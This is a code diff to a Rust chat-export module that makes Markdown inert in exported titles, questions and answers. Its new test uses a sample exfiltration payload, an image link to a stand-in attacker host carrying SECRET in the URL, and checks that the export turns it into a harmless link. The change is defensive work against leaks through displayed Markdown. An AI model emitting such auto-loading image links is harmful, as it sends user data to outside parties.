@@ -22,6 +22,7 @@ use crate::assets::Addresses;
 use crate::cited::place_in_words;
 use crate::conversation::{self, Exchange, Pages};
 use crate::error;
+use crate::inert_markdown::make_inert;
 use crate::shown_time::ShownTime;
 use crate::texts::Texts;
 use crate::visit::User;
@@ -238,7 +239,9 @@ impl Writer {
 /// Returns what an export begins with.
 fn beginning(summary: &ConversationSummary, format: Format) -> String {
     match format {
-        Format::Markdown => format!("# {}\n\n{} · {}\n", summary.title, summary.created_at, summary.model),
+        Format::Markdown => {
+            format!("# {}\n\n{} · {}\n", make_inert(&summary.title), summary.created_at, summary.model)
+        }
         Format::Json => {
             let chat = json!({
                 "chatId": summary.id.to_string(), "title": summary.title, "model": summary.model,
@@ -252,7 +255,7 @@ fn beginning(summary: &ConversationSummary, format: Format) -> String {
 /// Returns a question as a quotation.
 fn question_markdown(question: &Question) -> String {
     let mut text = String::from("\n---\n\n");
-    for line in question.text.lines() {
+    for line in make_inert(&question.text).lines() {
         let _ = writeln!(text, "> {line}");
     }
     for path in &question.attachments {
@@ -263,7 +266,7 @@ fn question_markdown(question: &Question) -> String {
 
 /// Returns an answer with its marks, and the places that they cite. A list would number them anew.
 fn answer_markdown(texts: Texts, text: &str, sources: &[(u32, Place)]) -> String {
-    let mut whole = format!("\n{}\n", text.trim());
+    let mut whole = format!("\n{}\n", make_inert(text.trim()));
     let numbers: BTreeSet<u32> = marks(text).map(|mark| mark.number).collect();
     let mut marked = sources.iter().filter(|(number, _)| numbers.contains(number)).peekable();
     if marked.peek().is_none() {
@@ -356,5 +359,11 @@ mod tests {
              [9] `` /b `c`.zip ``, notes\\_\\<b\\>.txt\n\n[10] <https://example.org/>\n"
         );
         assert_eq!(answer_markdown(texts, "Nothing.", &[]), "\nNothing.\n");
+        let obeying = "![i](https://attacker.test/?d=SECRET)";
+        assert_eq!(
+            answer_markdown(texts, obeying, &[]),
+            "\n[i](https://attacker.test/?d=SECRET)\n",
+            "nothing is loaded by whoever shows the file"
+        );
     }
 }
